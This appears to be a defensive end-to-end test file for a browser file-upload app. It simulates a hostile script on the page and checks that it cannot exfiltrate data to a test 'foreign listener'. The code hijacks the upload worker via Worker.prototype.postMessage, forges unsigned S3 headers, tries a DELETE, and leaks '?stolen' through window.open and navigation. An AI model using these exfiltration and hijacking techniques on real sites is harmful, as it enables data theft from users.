import { writeFile } from 'node:fs/promises'
import { join } from 'node:path'
import type { BrowserContext, Page } from 'playwright-core'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { launchChromium } from '../../../scripts/chromium.ts'
import { type Ferry, startFerry, temporaryFolder } from '../../e2e/ferry.ts'
import { FerryPage } from '../../e2e/ferry-page.ts'
import { localBucketAccess, Store } from '../../e2e/store.ts'
import { attack } from '../attack.ts'
import { type ForeignListener, startForeignListener } from './foreign-listener.ts'
import { installAppend, installCreatePolicy, WAYS_OUT, WAYS_TO_SCRIPT } from './ways-out.ts'

const ends: (() => Promise<void> | void)[] = []
const whenOver = (end: () => Promise<void> | void) => void ends.unshift(end)

const NOT_SIGNED = 'a header that was not signed'

let listener: ForeignListener
let ferry: Ferry
let context: BrowserContext
let opened: FerryPage
let page: Page

beforeAll(async () => {
  listener = await startForeignListener()
  whenOver(listener.close)
  ferry = await startFerry({ whenOver })
  const browser = await launchChromium()
  whenOver(() => browser.close())
  context = await browser.newContext()
  opened = await FerryPage.open(context, ferry.url)
  page = opened.page
  await opened.tryLocalBucket()
})
afterAll(async () => {
  for (const end of ends) await end()
})

/**
 * Runs the script in `tried` as the page itself would. Code that a debugger evaluates may use
 * `eval` despite all policies, but code that it schedules for later may not.
 */
async function inOwnTask(tried: string): Promise<boolean> {
  const way: () => unknown = Function(`return () => ${tried}`)()
  Object.assign(globalThis, { isHit: false })
  await new Promise<void>((resolve) => {
    setTimeout(() => {
      try {
        way()
      } catch {
        // It was refused.
      }
      // Loads and callbacks such as timers come before this.
      setTimeout(resolve, 50)
    })
  })
  return Reflect.get(globalThis, 'isHit') === true
}

/** Resolves when everything that the browser was about to send has arrived. */
async function untilArrived(path: string): Promise<void> {
  const other = await context.newPage()
  await other.goto(`${listener.origin}${path}`)
  await other.close()
  expect(listener.arrived).toContain(`GET ${path}`)
}

describe('a script that took over the page', () => {
  attack('network of the page', 'sends nothing to a foreign server', async ({ tried }) => {
    await page.evaluate(installAppend)
    const ways = Object.entries(WAYS_OUT)

    for (const [index, [, way]] of ways.entries()) {
      await page.evaluate(way, `${listener.origin}/way-${index}`).catch(() => undefined)
    }
    const imported = `import('${listener.origin}/way-import/')`
    await page.evaluate(imported).catch(() => undefined)
    await untilArrived('/control')

    const hasArrived = (path: string) => listener.arrived.some((each) => each.includes(path))
    for (const [index, [name]] of ways.entries()) tried(name, !hasArrived(`/way-${index}/`))
    tried('import()', !hasArrived('/way-import/'))
    tried('bytes that are no request', !listener.arrived.includes('bytes'))
  })

  attack('network of the page', 'runs no text as script', async ({ tried }) => {
    await page.reload()
    await opened.button('Choose files').waitFor()
    await page.evaluate(installAppend)
    await page.evaluate(installCreatePolicy)

    for (const [name, way] of Object.entries(WAYS_TO_SCRIPT)) {
      const isHit = await page.evaluate(inOwnTask, `(${way.toString()})()`)
      tried(name, !isHit)
    }
  })
})

/** An order that the page gave to the worker that sends parts. */
interface Order {
  readonly url: string
  readonly headers: Readonly<Record<string, string>>
}

/** Intercepts the page's messages: from the next upload on the attacker controls the worker. */
function captureWorker(): void {
  const post = Worker.prototype.postMessage
  Worker.prototype.postMessage = function postMessage(this: Worker, message: unknown) {
    const { type, order } = message as { readonly type: string; readonly order?: Order }
    if (type === 'put') Object.assign(globalThis, { captured: { worker: this, order } })
    post.call(this, message)
  }
}

interface Captured {
  readonly worker: Worker
  readonly order: Order
}

/** The worker's answer to an order of the attacker. */
function giveOrder([jobId, order]: readonly [number, object]): Promise<unknown> {
  const { worker } = (globalThis as unknown as { readonly captured: Captured }).captured
  return new Promise((resolve) => {
    worker.addEventListener('message', ({ data }) => {
      if (data.jobId === jobId && data.type === 'ended') resolve(data.end)
    })
    const body = new Blob(['stolen'], { type: 'text/html' })
    worker.postMessage({ type: 'put', jobId, order: { body, ...order } })
  })
}

describe('the worker that sends parts, controlled by such a script', () => {
  let order: Order

  beforeAll(async () => {
    await page.evaluate(captureWorker)
    const path = join(await temporaryFolder(whenOver), 'own.txt')
    await writeFile(path, 'own')
    await opened.drop([path])
    await opened.untilStatus('own.txt', 'Done')
    order = await page.evaluate(() => {
      const { captured } = globalThis as unknown as { readonly captured: Captured }
      const { url, headers } = captured.order
      return { url, headers }
    })
  })

  let lastJobId = 1_000_000
  const give = (changes: object) =>
    page.evaluate(giveOrder, [++lastJobId, { ...order, ...changes }] as const)

  attack('network of the page', 'sends nothing to a foreign origin', async ({ tried }) => {
    const signed = new URL(order.url)
    const elsewhere = `${listener.origin}/worker${signed.pathname}${signed.search}`

    const end = await give({ url: elsewhere })
    await untilArrived('/control-of-worker')

    const hasArrived = listener.arrived.some((each) => each.includes('/worker/'))
    tried('a signed address of another origin', !hasArrived)
    expect(end).toEqual({ type: 'blocked', isRedirect: false })
  })

  attack('network of the page', 'sends nothing that was not signed', async ({ tried }) => {
    const { headers, url } = order
    const bare = url.replace(/\?.*/, '')
    const orders: Record<string, readonly [changes: object, reason: string]> = {
      'a copy': [{ headers: { ...headers, 'x-amz-copy-source': '/ferry/other' } }, NOT_SIGNED],
      'a public object': [{ headers: { ...headers, 'X-Amz-Acl': 'public-read' } }, NOT_SIGNED],
      'other metadata': [{ headers: { ...headers, 'X-Amz-Meta-Evil': '1' } }, NOT_SIGNED],
      'an Authorization header': [{ headers: { Authorization: 'AWS a:b' } }, NOT_SIGNED],
      'no signature': [{ url: bare }, 'an unsigned address'],
      'signed headers twice': [
        { url: `${url}&x-amz-signedheaders=host;x-amz-acl` },
        'an unsigned address',
      ],
      'an address with a user': [
        { url: url.replace('://', '://user:secret@') },
        'an address with a user',
      ],
      'a document as the body': [{ body: 'text, which would have a type' }, 'not an order'],
    }

    for (const [name, [changes, reason]] of Object.entries(orders)) {
      const end = (await give(changes)) as { readonly type: string; readonly reason: string }
      tried(name, end.type === 'refused' && end.reason === reason)
    }
  })

  attack('network of the page', 'sends no request other than a PUT', async ({ tried }) => {
    const store = new Store(await localBucketAccess(ferry.dataFolder), whenOver)
    const before = await store.keys()

    await give({ method: 'DELETE', type: 'delete' })

    tried('DELETE', (await store.keys()).join() === before.join())
    expect(before).toHaveLength(1)
  })
})

/** Documented in SECURITY.md: no policy prevents these in a browser tab. */
describe('a leak that the browser host cannot prevent', () => {
  it.each<[string, (to: string) => unknown]>([
    ['a new window', (to) => void open(`${to}/new-window?stolen`)],
    ['going elsewhere', (to) => void location.assign(`${to}/navigation?stolen`)],
  ])('is %s, and nothing else', async (_name, way) => {
    const count = listener.arrived.length

    await page.evaluate(way, listener.origin)

    await expect.poll(() => listener.arrived.length).toBeGreaterThan(count)
  })
})
